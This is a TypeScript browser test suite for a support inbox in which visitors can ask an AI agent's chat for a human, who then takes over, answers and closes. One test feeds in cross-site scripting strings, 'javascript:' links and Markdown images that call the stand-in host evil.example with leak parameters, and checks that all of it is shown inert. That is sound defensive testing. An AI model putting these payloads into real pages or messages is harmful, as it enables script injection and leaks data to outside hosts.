import t from 'tap'
import { QUESTION } from '../conversations/helper.ts'
import { slowModel } from '../conversations/slow-model.ts'
import { closeBrowser, consoleAt, seenByAxe, shop, signedIn, visitorAt, withoutChromium } from './helper.ts'

t.teardown(closeBrowser)

const skip = withoutChromium

t.test('a visitor asks for a person, somebody takes over in the inbox, answers and closes', { skip }, async (t) => {
  const built = await shop(t, { agent: { behavior: { expertHandoff: true } } })
  const { origin, me, settled } = built
  const { page, faults } = await consoleAt(await signedIn(t, built, me.id), built, '/inbox')
  await page.getByText('Visitors are passed on to you.').waitFor({ state: 'attached' })
  const { widget, faults: visitorFaults } = await visitorAt(t, origin)
  await widget.open()
  await widget.ask(QUESTION)
  await widget.panel.locator('.judge').waitFor()
  await page.locator('.inbox-entry').first().waitFor()
  await widget.ask('I want to talk to a human please')
  await page.getByText('1 waiting for a person').waitFor({ state: 'attached' })
  t.match(await page.locator('.inbox-group').first().innerText(), /Waiting for a person/, 'who waits stands first')
  await page.getByRole('link', { name: /asked for a person/ }).click()
  await page.getByRole('button', { name: 'Take over' }).click()
  await page.getByRole('button', { name: 'Give back to the agent' }).waitFor()
  // Nobody is waiting any more.
  await page.locator('.menu .count').first().waitFor({ state: 'detached' })
  // Was wrong: typing was shown, but not what was typed.
  await widget.field.fill('Are you re')
  await page.locator('.typed').getByText('Are you re', { exact: true }).waitFor()
  await page.getByText('The visitor is typing …').waitFor()
  await widget.field.fill('')
  await page.locator('.typed').waitFor({ state: 'detached' })
  await widget.field.fill('Are you')
  await page.locator('.typed').getByText('Are you', { exact: true }).waitFor()
  await widget.ask('Are you real?')
  await page.locator('.told.visitor').getByText('Are you real?').waitFor()
  await page.locator('.typed').waitFor({ state: 'detached' })
  await page.getByLabel('Your answer').fill('I am **Ada** from the shop.')
  await page.keyboard.press('Enter')
  await widget.panel.locator('li').getByText('from the shop.').waitFor()
  t.equal(
    await page.locator('.told.person .markdown strong').innerText(),
    'Ada',
    'what a person writes is drawn as the visitor sees it'
  )
  // The field is empty again.
  await page.getByLabel('Your answer').and(page.locator(':placeholder-shown')).waitFor()
  await page.getByLabel('A note for the team').fill('Was friendly.')
  await page.getByRole('button', { name: 'Add the note' }).click()
  await page.locator('.note').getByText('Was friendly.').waitFor()
  await seenByAxe(t, page, 'a conversation')
  await page.locator('.inbox-head').getByRole('button', { name: 'Close', exact: true }).click()
  await page.getByRole('button', { name: 'Question answered' }).click()
  await page.locator('.undo').waitFor({ state: 'detached' })
  await page.getByRole('button', { name: 'Closed', exact: true }).click()
  await page.getByText('Handed to a person').waitFor()
  await settled()
  const figures = (await me.get('/v1/analytics')).json().data.total
  t.equal(figures.outcomes.handed_off, 1, 'the outcome counts in the figures')
  await page.getByRole('link', { name: 'Figures' }).click()
  await page.getByText('All sums').click()
  await page.locator('.totals .card', { hasText: 'Handed off' }).getByText('1', { exact: true }).waitFor()
  t.strictSame([...faults, ...visitorFaults], [])
})

// Was wrong: nothing notified a person of a new message in a conversation that they hold.
t.test('a person who holds two conversations is told in each tab which one has a new message', { skip }, async (t) => {
  const built = await shop(t, { agent: { behavior: { expertHandoff: true } } })
  const { me, conversation, say, id } = built
  const other = (await me.post(`/v1/agents/${id}/conversations`, { subject: 'The other one' })).json().data.id
  for (const one of [conversation, other]) await me.post(`/v1/conversations/${one}/takeover`, {})
  await say('Shoes')
  const context = await signedIn(t, built, me.id)
  const { page, faults } = await consoleAt(context, built, `/inbox/${other}`)
  const row = page.locator(`[data-id="${conversation}"]`)
  await row.getByText('New message').waitFor({ state: 'attached' })
  await page.waitForFunction(() => document.title.startsWith('(1) '))
  await page.getByText('1 with a new message').first().waitFor({ state: 'attached' })
  const { page: second, faults: secondFaults } = await consoleAt(context, built, '/agents')
  await second.waitForFunction(() => document.title.startsWith('(1) '))
  await seenByAxe(t, page, 'an unread conversation')
  // Opened, it is seen: here, in the other tab and by the server.
  await row.click()
  for (const one of [page, second]) await one.waitForFunction(() => !document.title.startsWith('('))
  t.strictSame((await me.get('/v1/me/unread')).json().data.conversations, [])
  // The other one writes: notified here, where the first is open, and in the other tab.
  await me.post(`/v1/conversations/${other}/messages`, { text: 'Are you still there?' })
  for (const one of [page, second]) await one.waitForFunction(() => document.title.startsWith('(1) '))
  await page.locator(`[data-id="${other}"]`).getByText('New message').waitFor({ state: 'attached' })
  // A message in the conversation being looked at is seen at once.
  await say('One more thing')
  await page.locator('.told.visitor').getByText('One more thing').waitFor()
  await row.getByText('New message').waitFor({ state: 'detached' })
  t.strictSame((await me.get('/v1/me/unread')).json().data.conversations, [other])
  // A reply from elsewhere counts as seen.
  await me.post(`/v1/conversations/${other}/messages`, { text: 'Yes.', role: 'person' })
  for (const one of [page, second]) await one.waitForFunction(() => !document.title.startsWith('('))
  // A visitor who waits for a person still waits when somebody has looked.
  const third = (await me.post(`/v1/agents/${id}/conversations`, { subject: 'The third' })).json().data.id
  await me.post(`/v1/conversations/${third}/messages`, { text: 'A human please' })
  await page.waitForFunction(() => document.title.startsWith('(1) '))
  await me.put(`/v1/conversations/${third}/seen`, { up_to: 1 })
  await say('And now?')
  await page.locator('.told.visitor').getByText('And now?').waitFor()
  await second.waitForFunction(() => document.title.startsWith('(1) '))
  t.strictSame([...faults, ...secondFaults], [])
})

t.test(
  'what is typed survives a failed sending, a new message and another conversation, and arrives once',
  { skip },
  async (t) => {
    const built = await shop(t)
    const { me, conversation, say, at, id } = built
    await say(QUESTION)
    const other = (await me.post(`/v1/agents/${id}/conversations`, { subject: 'The other one' })).json().data.id
    const { page, faults } = await consoleAt(await signedIn(t, built, me.id), built, `/inbox/${conversation}`)
    const field = page.getByLabel('Your answer')
    await field.fill('My long answer')
    await page.route('**/messages', (route) => (route.request().method() === 'POST' ? route.abort() : route.continue()))
    await field.press('Enter')
    await page.getByText('The server cannot be reached. Check the connection and try again.').waitFor()
    t.equal(await field.inputValue(), 'My long answer')
    await say('Are you there?')
    await page.locator('.told.visitor').getByText('Are you there?').waitFor()
    t.equal(await field.inputValue(), 'My long answer', 'a new message changes nothing')
    await page.locator(`[data-id="${other}"]`).click()
    await page.locator(`[data-id="${other}"][aria-current=true]`).waitFor()
    t.equal(page.url().split('/').at(-1), other)
    t.equal(await field.inputValue(), '', 'each conversation has its own')
    await page.locator(`[data-id="${conversation}"]`).getByText('Draft').waitFor()
    await page.reload()
    await page.locator(`[data-id="${conversation}"]`).click()
    await page.locator('.told.visitor').first().waitFor()
    t.equal(await field.inputValue(), 'My long answer', 'not even loading anew loses it')
    await page.unroute('**/messages')
    // The response is lost on the way back: sent again, it is the same message.
    await page.route(
      '**/messages',
      async (route) => {
        if (route.request().method() !== 'POST') return await route.continue()
        await route.fetch()
        await route.abort()
      },
      { times: 1 }
    )
    await field.press('Enter')
    await page.getByRole('button', { name: 'Try again' }).click()
    await page.locator('.inbox-reply textarea:placeholder-shown').waitFor()
    const said = (await me.get(`${at}/messages`)).json().data.filter(({ role }: { role: string }) => role === 'person')
    t.strictSame(
      said.map(({ text }: { text: string }) => text), ['My long answer']
    )
    t.ok(
      faults.every((fault) => fault.includes('ERR_FAILED')),
      'but for the requests that were made to fail nothing is complained of'
    )
  }
)

t.test(
  'hostile names and hostile Markdown are shown as what they are, and nobody else is asked',
  { skip },
  async (t) => {
    const built = await shop(t)
    const { me, id, host } = built
    const evil = '<img src=x onerror=alert(1)>"\'><script>alert(2)</script>'
    const visitor = (
      await me.post('/v1/visitors', { agent: id, name: evil, attributes: { [evil.slice(0, 60)]: evil } })
    ).json().data.id
    const conversation = (await me.post(`/v1/agents/${id}/conversations`, { visitor, subject: evil })).json().data.id
    await me.post(`/v1/conversations/${conversation}/messages`, {
      role: 'person',
      text: `${evil}\n\n![](https://evil.example/?leak=1) [click](javascript:alert(3)) <style>*{display:none}</style>

| ${evil} |
|---|
| ![](https://evil.example/?leak=2) [click](javascript:alert(4)) |`
    })
    await me.post(`/v1/conversations/${conversation}/notes`, { text: evil })
    const context = await signedIn(t, built, me.id)
    const { page, faults } = await consoleAt(context, built, '/inbox')
    const asked = new Set<string>()
    page.on('request', (request) => asked.add(new URL(request.url()).origin))
    page.on('dialog', (dialog) => {
      t.fail(`a script ran: ${dialog.message()}`)
    })
    await page.locator(`[data-id="${conversation}"]`).click()
    await page.locator('.told.person').getByText('<script>alert(2)</script>').first().waitFor()
    t.equal(await page.locator('.told.person th').innerText(), evil, 'the same within a table')
    await page.locator('.note').getByText(evil).waitFor()
    await page.locator('.known').getByText(evil).first().waitFor()
    t.equal(await page.locator('main img, main script, main style, main a[href^="javascript"]').count(), 0)
    t.strictSame(
      [...asked].filter((origin) => origin !== host), []
    )
    t.strictSame(faults, [])
  }
)

t.test('seven tabs are open, all are live, and one of them alone keeps a stream open', { skip }, async (t) => {
  const built = await shop(t)
  const { me, at, say, settled } = built
  const context = await signedIn(t, built, me.id)
  const streams: string[] = []
  context.on('request', (request) => { if (request.url().endsWith('/v1/events')) streams.push(request.url()) })
  const tabs = []
  for (let i = 0; i < 7; i++) tabs.push(await consoleAt(context, built, '/inbox'))
  for (const { page } of tabs) await page.getByText('Visitors are passed on to you.').waitFor({ state: 'attached' })
  await say(QUESTION)
  for (const { page } of tabs) await page.locator(`[data-id="${built.conversation}"]`).waitFor()
  t.equal(streams.length, 1)
  // Was wrong: no tab noticed what happened between two streams.
  const closed = Promise.withResolvers<void>()
  await context.route('**/v1/events', async (route) => {
    await closed.promise
    await route.continue()
  })
  await Promise.all([
    context.waitForEvent('request', (request) => request.url().endsWith('/v1/events')), tabs[0]!.page.close()
  ])
  await me.post(`${at}/close`)
  closed.resolve()
  for (const { page } of tabs.slice(1)) await page.locator(`[data-id="${built.conversation}"]`).waitFor({ state: 'detached' })
  t.strictSame(tabs.flatMap(({ faults }) => faults), [])
  await context.close()
  await settled()
})

t.test('an answer is seen in the inbox while it is being written', { skip }, async (t) => {
  const model = await slowModel(t)
  const built = await shop(t, { env: { AGENTHALL_MODEL_URL: model.url } })
  const { me, say, conversation, settled } = built
  const { page, faults } = await consoleAt(await signedIn(t, built, me.id), built, `/inbox/${conversation}`)
  await page.getByText('Sending takes the conversation over from the agent.').waitFor()
  const saying = say(QUESTION)
  const asked = await model.next()
  await asked.say('You have thirty days ')
  await page.locator('.told.agent').getByText('You have thirty days').waitFor()
  await page.getByText('The agent is writing …').waitFor()
  await asked.say('from delivery [1].')
  asked.end()
  await page.locator('.told.agent').getByText('from delivery').waitFor()
  await page.locator('.cited').waitFor()
  await saying
  await settled()
  t.strictSame(faults, [])
})
